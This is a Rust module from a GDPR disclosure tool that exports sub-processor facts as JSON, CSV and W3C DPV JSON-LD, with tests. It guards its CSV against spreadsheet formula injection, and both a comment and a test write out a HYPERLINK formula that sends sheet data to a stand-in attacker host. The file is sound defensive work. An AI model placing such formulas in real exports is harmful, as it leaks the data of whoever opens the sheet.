//! The published facts for machines, written with every build: `data.json` (the validated model
//! and the stamp), `subprocessors.csv`, and `dpv.jsonld`, the same facts in the W3C Data Privacy
//! Vocabulary (DPV) so that a controller's tools can read who processes what, where, and on
//! which legal basis data leaves the EEA.

use schemars::JsonSchema;
use serde::Serialize;
use serde_json::{Value, json};

use crate::model::{Model, Period, PeriodUnit, Roles, Transfer, TransferMechanism};

/// An ISO 8601 duration: `P2Y`, `P6M`, `P30D`.
fn iso_duration(p: &Period) -> String {
    let unit = match p.unit {
        PeriodUnit::Days => 'D',
        PeriodUnit::Months => 'M',
        PeriodUnit::Years => 'Y',
    };
    format!("P{}{unit}", p.count)
}

/// The version of the `data.json` format.
pub const DATA_VERSION: u32 = 1;

/// The document `data.json` holds; its JSON Schema is `candor schema data`.
#[derive(Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub struct DataJson<'a> {
    /// The format version (1).
    pub version: u32,
    /// The date of the publication these facts belong to (ISO 8601).
    pub last_modified: String,
    /// The fingerprint of that publication: `sha256:` and the hex SHA-256 of its canonical
    /// form, published as `history/<last-modified>.json` and listed in `history.json`.
    pub fingerprint: &'a str,
    /// The languages the site is published in.
    pub languages: &'a [String],
    /// The validated facts.
    pub facts: &'a Model,
}

/// `data.json`: the validated model, with the stamp, its fingerprint and the languages.
pub fn data_json(
    model: &Model,
    date: jiff::civil::Date,
    fingerprint: &str,
    languages: &[String],
) -> Vec<u8> {
    let doc = DataJson {
        version: DATA_VERSION,
        last_modified: date.to_string(),
        fingerprint,
        languages,
        facts: model,
    };
    let mut out = serde_json::to_vec_pretty(&doc).expect("the model serializes");
    out.push(b'\n');
    out
}

/// `subprocessors.csv`: one row per sub-processor, in page order.
///
/// Customers open this list in a spreadsheet, so it is written for one: it starts with a UTF-8
/// byte order mark (without it Excel reads the file in the legacy code page and garbles `ü`),
/// and no cell can run as a formula (see [`spreadsheet_text`]).
pub fn subprocessors_csv(model: &Model) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
    let header = [
        "id",
        "name",
        "purpose",
        "group",
        "personal_data",
        "countries",
        "headquarters",
        "outside_eea",
        "transfer_mechanism",
        "fallback_mechanism",
        "data_categories",
        "data_subjects",
        "applies_to",
        "security_measures",
        "privacy_contact",
        "subprocessor_list",
        "address",
        "engaged",
        "effective",
    ];
    w.write_record(header).expect("writing to memory");
    // Lists in a cell are separated by a space: none of the ids or codes holds one.
    let ids = |list: &[String]| list.join(" ");
    for s in &model.subprocessors {
        let (outside, mechanism, fallback) = match s.transfer {
            Transfer::WithinEea => ("no", "", ""),
            Transfer::OutsideEea {
                mechanism,
                fallback,
            } => (
                "yes",
                mechanism.as_str(),
                fallback.map_or("", |f| f.as_str()),
            ),
        };
        let yes_no = if s.personal_data { "yes" } else { "no" };
        let link =
            |l: &Option<crate::model::Link>| l.as_ref().map_or("", |l| l.as_str()).to_string();
        let countries: Vec<String> = s.countries.iter().map(|c| c.code().to_string()).collect();
        let date = |d: Option<jiff::civil::Date>| d.map(|d| d.to_string()).unwrap_or_default();
        let row = [
            s.id.clone(),
            s.name.clone(),
            s.purpose.clone().unwrap_or_default(),
            s.group.clone().unwrap_or_default(),
            yes_no.to_string(),
            ids(&countries),
            s.headquarters.as_ref().map_or("", |c| c.code()).to_string(),
            outside.to_string(),
            mechanism.to_string(),
            fallback.to_string(),
            ids(&s.data_categories),
            ids(&s.data_subjects),
            ids(&s.applies_to),
            link(&s.security),
            link(&s.contact),
            link(&s.list),
            s.address.clone().unwrap_or_default(),
            date(s.engaged),
            date(s.effective),
        ];
        for cell in &row {
            w.write_field(spreadsheet_text(cell).as_bytes())
                .expect("writing to memory");
        }
        w.write_record(None::<&[u8]>).expect("writing to memory");
    }
    w.into_inner().expect("writing to memory")
}

/// The byte order mark that tells a spreadsheet the file is UTF-8.
const UTF8_BOM: &str = "\u{feff}";

/// A cell as a spreadsheet will show it, never run it (OWASP, "CSV Injection"): a cell that
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
/// and Google Sheets (`=HYPERLINK("https://evil.example/?"&A1,"x")` sends the sheet's data away
/// when clicked), so such a cell gets a leading `'`, which makes it text. The csv writer then
/// quotes the cell if it holds a quote, a comma or a line break. Only the name can start like
/// that today; every cell goes through here so that no new column can forget it.
fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The GDPR article DPV's `eu-gdpr` extension names for a transfer mechanism.
fn gdpr_article(m: TransferMechanism) -> &'static str {
    match m {
        TransferMechanism::StandardContractualClauses => "eu-gdpr:A46-2-c",
        TransferMechanism::AdequacyDecision => "eu-gdpr:A45-3",
        TransferMechanism::BindingCorporateRules => "eu-gdpr:A47-1",
        // The Data Privacy Framework is an adequacy decision; the UK addendum amends the SCCs.
        TransferMechanism::DataPrivacyFramework => "eu-gdpr:A45-3",
        TransferMechanism::UkAddendum => "eu-gdpr:A46-2-c",
        TransferMechanism::Derogation => "eu-gdpr:A49-1",
    }
}

/// `dpv.jsonld`: the organisation as processor and controller, its sub-processors as recipients,
/// its storage locations, and each transfer outside the EEA with its legal basis.
pub fn dpv_jsonld(model: &Model, date: jiff::civil::Date, base: &str) -> Vec<u8> {
    let org = &model.organisation;
    let types: Vec<&str> = match org.roles {
        Roles::Both => vec!["dpv:DataController", "dpv:DataProcessor"],
        Roles::Controller => vec!["dpv:DataController"],
        Roles::Processor => vec!["dpv:DataProcessor"],
    };
    let recipients: Vec<Value> = model
        .subprocessors
        .iter()
        .enumerate()
        .map(|(i, s)| {
            let mut r = json!({
                "@id": format!("{base}#subprocessor-{}", i + 1),
                "@type": "dpv:DataSubProcessor",
                "dpv:hasName": s.name,
                "dpv:hasPersonalData": s.personal_data,
            });
            if let Transfer::OutsideEea { mechanism, .. } = s.transfer {
                r["dpv:hasDataTransfer"] = json!({
                    "@type": "dpv:DataTransfer",
                    "dpv:hasLegalBasis": { "@id": gdpr_article(mechanism) },
                    "dct:description": "outside the European Economic Area",
                });
            }
            if let Some(link) = &s.security {
                r["dpv:hasTechnicalOrganisationalMeasure"] = json!({ "@id": link.as_str() });
            }
            r
        })
        .collect();
    let locations: Vec<Value> = model
        .storage
        .locations
        .iter()
        .map(|l| {
            json!({
                "@type": "dpv:StorageLocation",
                "dpv:hasName": l.provider,
                "dpv:hasCountry": { "@id": format!("loc:{}", l.country.code()) },
                "dpv:hasCity": l.city,
                "dpv:hasCertification": l.certifications,
            })
        })
        .collect();
    let doc = json!({
        "@context": {
            "dpv": "https://w3id.org/dpv#",
            "eu-gdpr": "https://w3id.org/dpv/legal/eu/gdpr#",
            "loc": "https://w3id.org/dpv/loc#",
            "dct": "http://purl.org/dc/terms/",
        },
        "@id": format!("{base}#organisation"),
        "@type": types,
        "dpv:hasName": org.name,
        "dct:modified": date.to_string(),
        "dpv:hasContact": { "@id": org.contact.as_str() },
        "dpv:hasPolicy": { "@id": org.privacy_policy.as_str() },
        "dpv:hasRecipient": recipients,
        "dpv:hasStorageCondition": locations,
        "dpv:hasStorageDuration": {
            "@type": "dpv:StorageDuration",
            "dpv:hasDuration": iso_duration(&model.retention.period),
        },
    });
    let mut out = serde_json::to_vec_pretty(&doc).expect("JSON-LD serializes");
    out.push(b'\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_a_spreadsheet_would_evaluate_becomes_text() {
        for cell in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#,
        ] {
            assert_eq!(spreadsheet_text(cell), format!("'{cell}"));
        }
        for cell in ["Müller GmbH", "a=b", "", "'quoted", "2025-10-30", " =1"] {
            assert_eq!(spreadsheet_text(cell), cell);
        }
    }

    #[test]
    fn the_csv_quotes_a_neutralized_formula_and_reads_back_as_written() {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record([spreadsheet_text(r#"=HYPERLINK("x","y")"#).as_bytes()])
            .unwrap();
        let bytes = w.into_inner().unwrap();
        assert_eq!(bytes, b"\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"\n");
    }
}
